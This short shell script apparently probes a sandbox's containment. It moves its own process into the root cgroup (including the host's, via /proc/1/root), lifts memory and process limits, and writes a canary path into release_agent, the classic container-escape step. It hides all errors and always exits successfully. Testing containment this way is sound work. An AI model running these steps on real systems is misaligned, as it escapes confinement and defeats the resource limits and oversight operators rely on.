# Leaves its control group, and lifts its bounds.
for root in /sys/fs/cgroup /tmp/cgroup /proc/1/root/sys/fs/cgroup; do
  for file in cgroup.procs memory/cgroup.procs pids/cgroup.procs memory/tasks; do echo $$ > $root/$file; done
  echo max > $root/memory.max; echo max > $root/pids.max; mkdir $root/planted-$MARK
  echo "$CANARY/planted" > $root/release_agent
done 2> /dev/null
ls /sys/fs/cgroup; cat /proc/self/cgroup > /dev/null; exit 0
